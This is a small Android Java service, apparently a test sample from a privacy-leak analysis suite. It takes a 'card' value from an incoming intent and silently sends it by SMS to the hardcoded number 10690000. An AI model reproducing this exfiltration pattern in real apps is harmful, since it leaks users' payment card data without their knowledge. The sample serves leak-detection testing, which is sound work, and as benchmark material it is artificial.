package cn.privlens.suite.boot_receiver_passes_card;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;

public class CheckService extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        if (intent != null && intent.hasExtra("card")) {
            report(intent.getStringExtra("card"));
        }
        stopSelf(startId);
        return START_NOT_STICKY;
    }

    private void report(String text) {
        SmsManager.getDefault().sendTextMessage("10690000", null, "check " + text, null, null);
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
